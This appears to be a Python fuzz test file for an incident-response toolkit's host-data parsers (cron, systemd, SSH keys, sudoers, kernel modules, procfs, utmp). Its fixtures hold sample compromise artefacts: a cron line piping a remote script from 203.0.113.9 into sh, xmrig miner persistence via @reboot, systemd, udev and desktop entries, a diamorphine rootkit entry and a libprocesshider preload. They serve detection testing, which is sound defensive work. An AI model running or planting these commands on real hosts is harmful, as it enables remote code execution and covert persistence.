"""Issue 10 point 16 (parsers): every parser of host data, fuzzed.

Each parser takes arbitrary bytes and mutated valid fixtures (bit flips, cut lines,
5,000-digit numbers, NULs, non-UTF-8, Unicode digits and line breaks) and must return
only its documented items (entries and problems), never raise. Bounded by
tests/hostile/fuzzing.py fuzz_settings(); IRKIT_FUZZ_EXAMPLES raises it for a long run.
"""

import json
from collections.abc import Callable, Iterable
from dataclasses import asdict, is_dataclass
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from irkit.collectors.persistence import (
    anacron_entries,
    at_entries,
    crontab_entries,
    key_entries,
    script_entry,
    unit_entries,
)
from irkit.parsers.atjob import AtJob, parse_at_job, run_time_from_name
from irkit.parsers.autostart import (
    Entry,
    desktop_entries,
    module_entries,
    preload_entries,
    shell_entries,
    udev_entries,
)
from irkit.parsers.cgroup import ContainerRef, cgroup_path, container_of
from irkit.parsers.crontab import (
    AnacronEntry,
    CronEntry,
    CronEnvironment,
    parse_anacrontab,
    parse_crontab,
)
from irkit.parsers.kmodules import KernelModule, decode_taint, parse_modules
from irkit.parsers.lines import LineProblem, content_lines, decimal, looks_binary
from irkit.parsers.passwd import GroupEntry, PasswdEntry, parse_group, parse_passwd
from irkit.parsers.proclinks import link_inode
from irkit.parsers.procmaps import MapsRegion, parse_maps
from irkit.parsers.procnet import (
    InetSocket,
    TableProblem,
    UnixSocket,
    parse_inet_table,
    parse_unix_table,
)
from irkit.parsers.sshkeys import AuthorizedKey, parse_authorized_keys
from irkit.parsers.sudoers import SudoersLine, parse_sudoers
from irkit.parsers.systemd import UnitSetting, parse_unit
from irkit.parsers.utmp import UtmpEntry, UtmpProblem, parse_utmp
from tests.hostfixtures import utmp_record
from tests.hostile.fuzzing import fuzz_settings
from tests.hostile.items_helpers import HOSTILE_TOKENS
from tests.persistence_fixture import AT_JOB, KEY

ID = "0123456789abcdef" * 4
AT_NAME = r"[a-zA-Z=][0-9a-f]{5}[0-9a-f]{8}"
FIXTURES: dict[str, list[bytes]] = {
    "crontab": [
        b"SHELL=/bin/sh\n# m h dom mon dow user command\n"
        b"17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
        b"@reboot root /tmp/.x/xmrig -o pool.example:3333\n",
        b"*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n",
    ],
    "anacrontab": [b"SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n"],
    "atjob": [AT_JOB.encode()],
    "unit": [
        b"[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/.x/xmrig \\\n  --donate-level 0\n"
        b"User=alice\n[Install]\nWantedBy=multi-user.target\n",
        b"[Timer]\nOnCalendar=daily\nUnit=backup.service\n",
    ],
    "keys": [f'ssh-ed25519 {KEY} a\ncommand="/tmp/x",no-pty ssh-ed25519 {KEY} b\n'.encode()],
    "passwd": [b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:A:/home/alice:/bin/sh\n"],
    "group": [b"root:x:0:\nsudo:x:27:alice,bob\n"],
    "sudoers": [
        b"Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\n"
        b"alice ALL=(ALL) NOPASSWD: \\\n /bin/sh\n"
    ],
    "modules": [
        b"diamorphine 16384 0 - Live 0xffffffffc0a00000 (OE)\n"
        b"ext4 987136 1 - Live 0x0000000000000000\nnf_nat 57344 2 xt_nat,nft_chain_nat, Live 0\n"
    ],
    "maps": [
        b"55d0c0a00000-55d0c0a21000 r--p 00000000 08:01 131 /usr/bin/xmrig\n"
        b"7ffd1c000000-7ffd1c021000 rw-p 00000000 00:00 0 [stack]\n"
        b"7f0000000000-7f0000001000 r-xp 00001000 08:01 77 /tmp/.x/lib (deleted)\n"
    ],
    "inet": [
        b"  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid"
        b"  timeout inode\n   0: 0100007F:0D3D 0100007F:A1B2 01 00000000:00000000 00:00000000"
        b" 00000000  1000        0 12345 1 0000000000000000 20 4 30 10 -1\n"
    ],
    "inet6": [
        b"  sl  local_address                         remote_address                        st\n"
        b"   0: 00000000000000000000000001000000:0050 00000000000000000000000000000000:0000 0A"
        b" 00000000:00000000 00:00000000 00000000     0        0 999 1 0000000000000000\n"
    ],
    "unix": [
        b"Num       RefCount Protocol Flags    Type St Inode Path\n"
        b"0000000000000000: 00000002 00000000 00010000 0001 01 20563 /run/systemd/notify\n"
        b"0000000000000000: 00000003 00000000 00000000 0001 03 20564\n"
    ],
    "cgroup": [
        f"0::/system.slice/docker-{ID}.scope\n".encode(),
        f"12:memory:/kubepods/burstable/pod12345678-90ab-cdef-1234-567890abcdef/{ID}\n".encode(),
    ],
    "lines": [
        b"export PATH=/usr/bin\n# comment\nnohup ~/.x/run &\n",
        b"/usr/local/lib/libprocesshider.so:/lib/x.so\n",
        b"# modules\ndiamorphine\n;comment\n",
        b'ACTION=="add", SUBSYSTEM=="net", RUN+="/tmp/.x/xmrig"\n',
        b"[Desktop Entry]\nType=Application\nExec=/tmp/.x/xmrig\n",
    ],
    "utmp": [
        utmp_record(7, pid=42, line=b"pts/0", user=b"alice", host=b"198.51.100.7", time=1700000000)
        + utmp_record(2, time=1700000000, address=bytes([198, 51, 100, 7]) + bytes(12))
    ],
}


@st.composite
def mutated(draw: st.DrawFn, samples: list[bytes]) -> bytes:
    """A valid fixture with a few hostile edits: flips, cuts, inserted tokens, repeats."""
    data = bytearray(draw(st.sampled_from(samples)))
    for _ in range(draw(st.integers(1, 6))):
        position = draw(st.integers(0, len(data)))
        edit = draw(st.sampled_from(("flip", "cut", "insert", "repeat")))
        if edit == "flip" and data:
            data[position % len(data)] ^= 1 << draw(st.integers(0, 7))
        elif edit == "cut":
            del data[position : position + draw(st.integers(1, 40))]
        elif edit == "insert":
            token = draw(st.sampled_from(HOSTILE_TOKENS) | st.binary(max_size=12))
            data[position:position] = token
        else:
            data[position:position] = data[position : position + draw(st.integers(1, 80))] * 3
    return bytes(data)


def host_bytes(kind: str) -> st.SearchStrategy[bytes]:
    return st.binary(max_size=2048) | mutated(FIXTURES[kind])


def only(items: Iterable[object], *types: type) -> list[Any]:
    """Every item is one of the documented types and serialises as a record would."""
    found = list(items)
    for item in found:
        assert isinstance(item, types), item
        if is_dataclass(item) and not isinstance(item, type):
            json.dumps(asdict(item), ensure_ascii=True, default=str)
    return found


@fuzz_settings()
@given(data=host_bytes("crontab"), system=st.booleans())
def test_crontab(data: bytes, system: bool) -> None:
    for item in only(parse_crontab(data, system=system), CronEntry, CronEnvironment, LineProblem):
        if isinstance(item, CronEntry):
            assert item.command and (item.user is not None) is system
    only(crontab_entries(system)(data, "/var/spool/cron/crontabs/alice"), Entry, LineProblem)


@fuzz_settings()
@given(data=host_bytes("anacrontab"))
def test_anacrontab(data: bytes) -> None:
    only(parse_anacrontab(data), AnacronEntry, CronEnvironment, LineProblem)
    only(anacron_entries(data, "/etc/anacrontab"), Entry, LineProblem)


@fuzz_settings()
@given(data=host_bytes("atjob"), name=st.text(max_size=20) | st.from_regex(AT_NAME, fullmatch=True))
def test_atjob(data: bytes, name: str) -> None:
    job = parse_at_job(data)
    assert isinstance(job, AtJob)
    assert job.uid is None or 0 <= job.uid < 2**32
    only(job.problems, LineProblem)
    when = run_time_from_name(name)
    assert when is None or when.endswith("Z")
    only(at_entries(data, "/var/spool/cron/atjobs/a0000101a2b3c4"), Entry, LineProblem)


@fuzz_settings()
@given(data=host_bytes("unit"), name=st.sampled_from(["a.service", "b.timer", "x.d/o.conf"]))
def test_systemd_unit(data: bytes, name: str) -> None:
    only(parse_unit(data), UnitSetting, LineProblem)
    only(unit_entries(data, "/etc/systemd/system/" + name), Entry, LineProblem)


@fuzz_settings()
@given(data=host_bytes("keys"))
def test_authorized_keys(data: bytes) -> None:
    only(parse_authorized_keys(data), AuthorizedKey, LineProblem)
    only(key_entries(data, "/root/.ssh/authorized_keys"), Entry, LineProblem)


@fuzz_settings()
@given(data=host_bytes("passwd"), group=host_bytes("group"))
def test_passwd_and_group(data: bytes, group: bytes) -> None:
    for entry in only(parse_passwd(data), PasswdEntry, LineProblem):
        if isinstance(entry, PasswdEntry):
            assert 0 <= entry.uid < 2**32 and 0 <= entry.gid < 2**32
    only(parse_group(group), GroupEntry, LineProblem)


@fuzz_settings()
@given(data=host_bytes("sudoers"))
def test_sudoers(data: bytes) -> None:
    only(parse_sudoers(data), SudoersLine)


@fuzz_settings()
@given(data=host_bytes("modules"), taint=st.integers(-(2**70), 2**70))
def test_kernel_modules_and_taint(data: bytes, taint: int) -> None:
    only(parse_modules(data), KernelModule, LineProblem)
    assert all(isinstance(flag, str) for flag in decode_taint(taint))


@fuzz_settings()
@given(data=host_bytes("maps"))
def test_proc_maps(data: bytes) -> None:
    regions, problems = parse_maps(data, "maps")
    only(regions, MapsRegion)
    assert all(r.end >= r.start for r in regions)
    assert all(isinstance(p, str) and len(p) < 400 for p in problems)


@fuzz_settings()
@given(
    data=host_bytes("inet") | host_bytes("inet6"),
    proto=st.sampled_from(["tcp", "tcp6", "udp", "udp6"]),
    unix=host_bytes("unix"),
)
def test_proc_net_tables(data: bytes, proto: str, unix: bytes) -> None:
    only(parse_inet_table(proto, data), InetSocket, TableProblem)
    only(parse_unix_table(unix), UnixSocket, TableProblem)


@fuzz_settings()
@given(
    link=st.text(max_size=60)
    | st.sampled_from(["socket:[12]", "net:[" + "9" * 5000 + "]", "mnt:[\uff19]", "pipe:[1"]),
    prefix=st.sampled_from(["", "socket:", "net:"]),
)
def test_proc_links(link: str, prefix: str) -> None:
    inode = link_inode(link, prefix)
    assert inode is None or 0 <= inode < 2**64


@fuzz_settings()
@given(data=host_bytes("cgroup"), text=st.text(max_size=300))
def test_cgroup(data: bytes, text: str) -> None:
    for source in (data.decode("utf-8", "surrogateescape"), text):
        path = cgroup_path(source)
        assert isinstance(container_of(path), ContainerRef)
        assert isinstance(container_of(source), ContainerRef)


LINE_PARSERS: dict[str, Callable[[bytes, str], Iterable[object]]] = {
    "shell": shell_entries("login shell"),
    "preload": preload_entries,
    "modules-load": module_entries,
    "udev": udev_entries,
    "desktop": desktop_entries,
    "script": script_entry("boot"),
}


@fuzz_settings()
@given(data=host_bytes("lines"), parser=st.sampled_from(sorted(LINE_PARSERS)))
def test_line_formats(data: bytes, parser: str) -> None:
    only(LINE_PARSERS[parser](data, "/etc/x"), Entry, LineProblem)
    for number, text in content_lines(data, continuation=True):
        assert number >= 1 and text
    looks_binary(data)


@fuzz_settings()
@given(data=host_bytes("utmp"))
def test_utmp(data: bytes) -> None:
    only(parse_utmp(data), UtmpEntry, UtmpProblem)


@fuzz_settings()
@given(text=st.text(max_size=30) | st.sampled_from(["9" * 5000, "\uff19", "1_0", " 1", "+1"]))
def test_decimal_takes_only_bounded_ascii_digits(text: str) -> None:
    value = decimal(text, 2**32 - 1)
    if value is not None:
        assert text.isascii() and text.isdigit() and 0 <= value < 2**32


@fuzz_settings()
@given(
    data=st.binary(max_size=30) | st.sampled_from([b"9" * 5000, b"1_0", b" 1", b"+1", b"\xd9\xa1"])
)
def test_decimal_of_bytes_is_decimal_of_their_text(data: bytes) -> None:
    """procfs fields are parsed as bytes, undecoded: the same numbers, the same refusals."""
    assert decimal(data, 2**32 - 1) == decimal(data.decode("latin-1"), 2**32 - 1)
